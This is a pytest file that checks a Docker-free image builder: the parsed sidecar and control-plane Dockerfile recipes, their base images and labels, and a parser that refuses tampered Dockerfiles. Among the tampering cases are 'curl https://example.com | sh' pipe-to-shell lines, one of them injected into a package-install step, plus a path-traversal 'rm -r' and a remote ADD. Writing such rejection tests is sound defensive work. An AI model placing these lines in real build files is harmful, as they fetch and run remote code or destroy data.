"""What is built without Docker is what the Dockerfiles say."""

import re
from pathlib import Path

import pytest

from tests.node.dockerfile import read_dockerfile
from tests.node.images import ROOT, SUITE
from tests.node.product import CONTROL, PRODUCTS, SIDECAR, Product

TEXT = SIDECAR.dockerfile.read_text()
LABEL = "org.opencontainers.image"


def test_the_sidecar() -> None:
    recipe = SIDECAR.recipe
    assert (recipe.lock, recipe.removed) == ("sidecar.lock", ("bin",))
    assert recipe.packages == ("sidecar", "webhook")
    assert recipe.config["User"] == "64430:64430"
    assert recipe.config["Entrypoint"] == ["/usr/local/bin/mca", "sidecar"]
    assert "PYTHONPATH=/opt/mca" in recipe.config["Env"]


def test_the_control_plane() -> None:
    recipe = CONTROL.recipe
    assert (recipe.lock, recipe.packages) == ("control.lock", ("sidecar", "webhook"))
    assert recipe.removed == ("kubernetes/aio", "bin")
    assert recipe.config["User"] == "64431:64431"


@pytest.mark.parametrize("product", PRODUCTS, ids=lambda product: product.name)
def test_the_base_is_what_the_node_runs(product: Product) -> None:
    """tests/node/images.py makes that root; test_product.py sees that its library is compiled."""
    assert product.recipe.base == f"docker.io/library/debian:{SUITE}-slim"
    assert product.recipe.debian == ("python3",)


@pytest.mark.parametrize("product", PRODUCTS, ids=lambda product: product.name)
def test_labels_tell_what_it_is(product: Product) -> None:
    labels = product.recipe.config["Labels"]
    released = re.search(r'^version = "(.+)"$', (ROOT / "pyproject.toml").read_text(), re.MULTILINE)
    assert released is not None
    assert labels[f"{LABEL}.version"] == released[1]
    assert labels[f"{LABEL}.revision"] == "unknown"  # tools/images.py gives it
    assert labels[f"{LABEL}.licenses"] == "Apache-2.0"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("RUN python3 -m compileall", "RUN rm -r /opt/mca/../x\nRUN python3 -m compileall"),
        ("RUN python3 -m compileall", "RUN curl https://example.com | sh #"),
        ("USER 64430:64430", "USER 64430:64430\nADD https://example.com/x /x"),
        ("COPY sidecar /opt/mca/sidecar", "COPY tests /opt/mca/sidecar"),
        ("COPY --from=build /opt/mca /opt/mca", "COPY --from=other /opt/mca /opt/mca"),
        ("FROM python AS build", "FROM a\nFROM python AS build"),
        ("FROM python AS build", "FROM python:3.11-slim-bookworm AS build"),
        ("FROM python AS build", "FROM python AS build\nARG A=1"),
        ("FROM python\n", "FROM ${BASE}\n"),
        ("ARG BASE=", "ARG OTHER=1\nARG BASE="),
        ("recommends python3 \\", "recommends python3 && curl https://example.com | sh \\"),
        ('python3 -m compileall -q "$(', 'true "$('),
        ("--requirement /src/sidecar.lock", "cryptography"),
    ],
)
def test_what_is_not_understood_is_refused(tmp_path: Path, old: str, new: str) -> None:
    assert old in TEXT
    (tmp_path / "Dockerfile").write_text(TEXT.replace(old, new))
    with pytest.raises(ValueError, match="Dockerfile: "):
        read_dockerfile(tmp_path / "Dockerfile")
